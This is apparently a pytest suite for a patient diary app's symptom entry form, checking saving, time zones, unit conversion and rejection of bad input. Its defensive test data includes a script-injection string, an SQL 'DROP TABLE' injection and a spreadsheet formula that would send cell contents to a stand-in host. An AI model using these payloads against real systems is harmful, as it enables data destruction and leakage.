"""POST /diary/: the patient's entry form, with every rule of docs/clinical.md §4."""

import uuid
from datetime import UTC, datetime

import pytest

from diary.data.models import AuditEvent, Entry
from tests.conftest import sign_in
from tests.web.helpers import (
    FULL_ENTRY,
    audit_rows,
    checked_value,
    checked_values,
    entries,
    entry_page,
    error_after,
    input_value,
    new_entry_data,
    option_values,
    post_entry,
    textarea_value,
)

BIG = "9" * 10_000
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
SQL = "'; DROP TABLE entry;--"

pytestmark = pytest.mark.usefixtures("fixed_now")


def test_the_form_offers_a_fresh_id_the_time_now_and_the_patients_unit(as_patient):
    html = entry_page(as_patient)
    assert uuid.UUID(input_value(html, "client_id")).version == 4
    assert input_value(html, "client_id") != input_value(entry_page(as_patient), "client_id")
    assert input_value(html, "observed_at") == "2025-06-15T11:30"  # 10:30 UTC is 11:30 BST
    assert checked_value(html, "temp_unit") == "C"
    assert option_values(html, "pain") == [str(n) for n in range(11)]
    assert checked_value(html, "pain") is None  # no answer is put in the patient's mouth


def test_every_field_is_saved(as_patient, app, world):
    response = post_entry(as_patient, **FULL_ENTRY)
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/diary/history")
    [entry] = entries(app)
    assert entry.patient_id == world.patient_id
    assert entry.observed_at == datetime(2025, 6, 15, 10, 30, tzinfo=UTC)
    assert entry.utc_offset_min == 60
    assert (entry.pain, entry.temp_treated_c, entry.temp_other_c) == (6, 28.4, 30.1)
    assert (entry.colour, entry.feels, entry.swelling, entry.sweating) == (
        "blue_purple", "colder", "mild", "less")
    assert (entry.walk_pain_free_min, entry.walk_max_min, entry.did_not_walk) == (12, 25, False)
    assert entry.side_effects == "back_soreness;leg_numbness"
    assert entry.rescue_medication is True
    assert entry.notes == FULL_ENTRY["notes"]
    assert entry.deleted_at is None
    assert "Saved. Thank you." in as_patient.get("/diary/history").get_data(as_text=True)


def test_pain_and_time_alone_are_enough(as_patient, app):
    assert post_entry(as_patient, pain="0").status_code == 302
    [entry] = entries(app)
    assert entry.pain == 0
    assert entry.temp_treated_c is entry.temp_other_c is entry.colour is entry.feels is None
    assert entry.walk_pain_free_min is entry.walk_max_min is None
    assert entry.swelling is entry.sweating is None
    assert (entry.side_effects, entry.notes, entry.rescue_medication) == ("", "", False)


def test_blank_optional_fields_count_as_not_given(as_patient, app):
    blank = {"temp_treated": "  ", "temp_other": "", "walk_pain_free_min": " ",
             "walk_max_min": "", "notes": ""}
    assert post_entry(as_patient, pain="3", **blank).status_code == 302
    [entry] = entries(app)
    assert entry.temp_treated_c is None and entry.walk_pain_free_min is None


def test_a_time_typed_later_is_kept(as_patient, app):
    # 23:50 on Saturday in London is 22:50 UTC.
    assert post_entry(as_patient, pain="4", observed_at="2025-06-14T23:50").status_code == 302
    assert entries(app)[0].observed_at == datetime(2025, 6, 14, 22, 50, tzinfo=UTC)


def test_five_minutes_ahead_is_still_now(as_patient, app):
    # Phone clocks drift: docs/clinical.md §4 allows 5 minutes of grace.
    assert post_entry(as_patient, pain="4", observed_at="2025-06-15T11:35").status_code == 302
    assert len(entries(app)) == 1


def test_decimal_comma_is_read(as_patient, app):
    assert post_entry(as_patient, pain="4", temp_treated="31,5").status_code == 302
    assert entries(app)[0].temp_treated_c == 31.5


OK = "__ok__"

# (field, value typed, words of the message shown beside the field)
BAD = [
    ("pain", None, "Please tap a number from 0 to 10."),
    ("pain", "", "Please tap a number from 0 to 10."),
    ("pain", "11", "Please tap a number from 0 to 10."),
    ("pain", "-1", "Please tap a number from 0 to 10."),
    ("pain", "5.5", "Please tap a number from 0 to 10."),
    ("pain", "ten", "Please tap a number from 0 to 10."),
    ("pain", "١٠", "Please tap a number from 0 to 10."),
    ("pain", SCRIPT, "Please tap a number from 0 to 10."),
    ("pain", SQL, "Please tap a number from 0 to 10."),
    ("pain", "5\x00", "Please tap a number from 0 to 10."),
    ("pain", BIG, "Please tap a number from 0 to 10."),
    ("pain", "=1+1", "Please tap a number from 0 to 10."),
    ("pain", " 5", "Please tap a number from 0 to 10."),
    ("temp_treated", "14.9", "between 15.0 °C and 40.0 °C"),
    ("temp_treated", "40.1", "between 15.0 °C and 40.0 °C"),
    ("temp_other", "-3", "between 15.0 °C and 40.0 °C"),
    ("temp_treated", "91.4", "Did you mean °F?"),
    ("temp_other", "59", "Did you mean °F?"),
    ("temp_treated", "warm", "Please type a number"),
    ("temp_treated", "３３", "Please type a number"),
    ("temp_other", "٣٣", "Please type a number"),
    ("temp_treated", "1e3", "Please type a number"),
    ("temp_treated", "nan", "Please type a number"),
    ("temp_other", "inf", "Please type a number"),
    ("temp_treated", FORMULA, "Please type a number"),
    ("temp_treated", "33\x00", "Please type a number"),
    ("temp_other", SQL, "Please type a number"),
    ("temp_other", SCRIPT, "Please type a number"),
    ("temp_treated", BIG, "Please type a number"),
    ("temp_treated", "33" + " " * 40 + "junk", "Please type a number"),
    ("temp_unit", None, "Please choose °C or °F."),
    ("temp_unit", "K", "Please choose °C or °F."),
    ("colour", "green", "Please choose one of the answers shown."),
    ("colour", SCRIPT, "Please choose one of the answers shown."),
    ("colour", BIG, "Please choose one of the answers shown."),
    ("feels", "hotter", "Please choose one of the answers shown."),
    ("feels", "same\x00", "Please choose one of the answers shown."),
    ("swelling", FORMULA, "Please choose one of the answers shown."),
    ("swelling", SQL, "Please choose one of the answers shown."),
    ("sweating", "drenched", "Please choose one of the answers shown."),
    ("side_effects", ["headache"], "Please tick only the answers shown."),
    ("side_effects", ["bruising", SCRIPT], "Please tick only the answers shown."),
    ("side_effects", ["x" * 10_000], "Please tick only the answers shown."),
    ("walk_pain_free_min", "601", "between 0 and 600"),
    ("walk_max_min", "1000", "between 0 and 600"),
    ("walk_max_min", "-5", "Please type a whole number"),
    ("walk_max_min", "12.5", "Please type a whole number"),
    ("walk_pain_free_min", "٣٠", "Please type a whole number"),
    ("walk_pain_free_min", "５", "Please type a whole number"),
    ("walk_max_min", "1e3", "Please type a whole number"),
    ("walk_max_min", "25" + " " * 40 + "x", "Please type a whole number"),
    ("walk_max_min", BIG, "Please type a whole number"),
    ("walk_pain_free_min", SCRIPT, "Please type a whole number"),
    ("notes", "x" * 1001, "Please keep notes under 1000 characters."),
    ("notes", "x" * 10_000, "Please keep notes under 1000 characters."),
    ("notes", "before\x00after", "control"),
    ("notes", "bell\x07", "control"),
    ("notes", "escape \x1b[31m red", "control"),
    ("observed_at", None, "Please give the time."),
    ("observed_at", "", "Please give the time."),
    ("observed_at", "yesterday", "Please give a date and time."),
    ("observed_at", "2025-02-30T10:00", "Please give a date and time."),
    ("observed_at", "٢٠٢٥-٠٦-١٥T10:00", "Please give a date and time."),
    ("observed_at", "2025-06-15T11:30\x00", "Please give a date and time."),
    ("observed_at", SQL, "Please give a date and time."),
    ("observed_at", BIG, "Please give a date and time."),
    ("observed_at", "2025-06-15T11:36", "in the future"),  # 6 min ahead in London
    ("observed_at", "2026-01-01T00:00", "in the future"),
    ("observed_at", "2023-12-31T23:59", "more than a year before"),  # record made 2025-01-01
    ("client_id", None, "Please reload the page."),
    ("client_id", "", "Please reload the page."),
    ("client_id", "not-a-uuid", "Please reload the page."),
    ("client_id", "12345678-1234-4234-8234-123456789ABC", "Please reload the page."),
    ("client_id", "12345678-1234-4234-8234-123456789abc\n", "Please reload the page."),
    ("client_id", SQL, "Please reload the page."),
    ("client_id", BIG, "Please reload the page."),
]


def _id(case):
    field, value, _ = case
    shown = repr(value)[:20] if value is not None else "missing"
    return f"{field}={shown}"


@pytest.mark.parametrize(("field", "value", "message"), BAD, ids=[_id(c) for c in BAD])
def test_bad_input_is_refused_beside_its_field_and_nothing_is_stored(
        as_patient, app, field, value, message):
    data = new_entry_data(as_patient, **FULL_ENTRY)
    if value is None:
        data.pop(field, None)
    else:
        data[field] = value
    response = as_patient.post("/diary/", data=data)

    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert message in (error_after(html, field) or ""), error_after(html, field)
    assert "What you typed is kept." in html
    assert entries(app) == []
    assert audit_rows(app, AuditEvent.object_type == "entry") == []
    _assert_kept(html, data, but=field)


def _assert_kept(html, data, but):
    """Everything the patient typed in the other fields is still on the page."""
    for name in ("temp_treated", "temp_other", "walk_pain_free_min", "walk_max_min",
                 "observed_at", "client_id"):
        if name != but:
            assert input_value(html, name) == data[name].strip(), name
    for name in ("pain", "colour", "feels", "swelling", "sweating", "temp_unit"):
        if name != but:
            assert checked_value(html, name) == data[name], name
    if but != "notes":
        assert textarea_value(html, "notes") == data["notes"]
    if but != "side_effects":
        assert checked_values(html, "side_effects") == data["side_effects"]
    if but != "rescue_medication":
        assert checked_values(html, "rescue_medication") == ["y"]


@pytest.mark.parametrize(("field", "value"), [
    ("temp_treated", "14.9"), ("temp_other", "warm"), ("walk_max_min", "61O"),
    ("walk_pain_free_min", "-5"), ("observed_at", "tomorrow-ish"), ("notes", "x" * 1001),
])
def test_the_refused_value_itself_is_shown_again_to_correct(as_patient, field, value):
    html = post_entry(as_patient, **{**FULL_ENTRY, field: value}).get_data(as_text=True)
    shown = textarea_value(html, field) if field == "notes" else input_value(html, field)
    assert shown == value


def test_hostile_text_in_a_number_field_is_shown_back_escaped(as_patient):
    html = post_entry(as_patient, **{**FULL_ENTRY, "temp_treated": '"><b>x'}).get_data(
        as_text=True)
    assert '"><b>x' not in html
    assert input_value(html, "temp_treated") == "&#34;&gt;&lt;b&gt;x"


def test_a_full_note_with_line_breaks_fits(as_patient, app):
    # The browser's maxlength counts each line break once, but sends it as CRLF (two).
    note = "\r\n".join(["x" * 99] * 10)
    assert len(note.replace("\r\n", "\n")) == 999 and len(note) > 1000
    assert post_entry(as_patient, pain="5", notes=note).status_code == 302
    assert entries(app)[0].notes == note.replace("\r\n", "\n")


def test_pain_free_longer_than_maximal_is_refused(as_patient, app):
    html = post_entry(as_patient, **{**FULL_ENTRY, "walk_pain_free_min": "30",
                                     "walk_max_min": "20"}).get_data(as_text=True)
    assert "cannot be more than" in error_after(html, "walk_pain_free_min")
    assert entries(app) == []


def test_did_not_walk_with_minutes_is_refused(as_patient, app):
    html = post_entry(as_patient, **{**FULL_ENTRY, "did_not_walk": "y"}).get_data(as_text=True)
    assert "did not walk" in error_after(html, "did_not_walk")
    assert entries(app) == []


def test_did_not_walk_alone_is_saved(as_patient, app):
    assert post_entry(as_patient, pain="5", did_not_walk="y").status_code == 302
    [entry] = entries(app)
    assert entry.did_not_walk is True and entry.walk_max_min is None


@pytest.mark.parametrize(("typed", "stored", "words"), [
    ("19.5", 19.5, "That is cold for a foot."),
    ("37.6", 37.6, "warmer than skin usually is"),
])
def test_an_unusual_reading_is_saved_only_once_confirmed(as_patient, app, typed, stored, words):
    data = new_entry_data(as_patient, pain="5", temp_treated=typed)
    first = as_patient.post("/diary/", data=data)
    html = first.get_data(as_text=True)
    assert first.status_code == 200
    assert words in html and 'name="confirm_unusual"' in html
    assert input_value(html, "temp_treated") == typed
    assert entries(app) == []

    second = as_patient.post("/diary/", data={**data, "confirm_unusual": "y"})
    assert second.status_code == 302
    assert [e.temp_treated_c for e in entries(app)] == [stored]


def test_a_usual_reading_asks_for_no_confirmation(as_patient):
    html = entry_page(as_patient)
    assert 'name="confirm_unusual"' not in html


@pytest.fixture
def as_fahrenheit_patient(client, world):
    clinician = world.clinician()
    world.patient_id = world.patient(clinician, email="f@home.example", unit="F",
                                     tz="America/New_York")
    assert sign_in(client, "f@home.example").status_code == 302
    return client


def test_fahrenheit_patient_types_fahrenheit_and_celsius_is_stored(as_fahrenheit_patient, app):
    client = as_fahrenheit_patient
    html = entry_page(client)
    assert checked_value(html, "temp_unit") == "F"
    assert input_value(html, "observed_at") == "2025-06-15T06:30"  # EDT, UTC-4
    assert post_entry(client, pain="4", temp_treated="91.4", temp_other="84.2").status_code == 302
    [entry] = entries(app)
    assert entry.temp_treated_c == pytest.approx(33.0)
    assert entry.temp_other_c == pytest.approx(29.0)
    assert entry.utc_offset_min == -240
    history = client.get("/diary/history").get_data(as_text=True)
    assert "91.4 °F" in history and "84.2 °F" in history


@pytest.mark.parametrize(("typed", "message"), [
    ("58.9", "between 59.0 °F and 104.0 °F"),
    ("104.1", "between 59.0 °F and 104.0 °F"),
    ("33", "between 59.0 °F and 104.0 °F"),  # °C typed on a °F thermometer setting
])
def test_fahrenheit_limits(as_fahrenheit_patient, app, typed, message):
    html = post_entry(as_fahrenheit_patient, pain="4", temp_treated=typed).get_data(as_text=True)
    assert message in error_after(html, "temp_treated")
    assert entries(app) == []


def test_fahrenheit_cold_reading_is_warned(as_fahrenheit_patient, app):
    html = post_entry(as_fahrenheit_patient, pain="4", temp_treated="66.2").get_data(as_text=True)
    assert "That is cold for a foot." in html and entries(app) == []


def test_a_celsius_patient_may_switch_the_form_to_fahrenheit(as_patient, app):
    assert post_entry(as_patient, pain="4", temp_unit="F", temp_treated="91.4").status_code == 302
    assert entries(app)[0].temp_treated_c == pytest.approx(33.0)


def test_every_saved_entry_is_counted_once(as_patient, world):
    for pain in ("1", "2", "3"):
        assert post_entry(as_patient, pain=pain).status_code == 302
    assert world.count(Entry) == 3
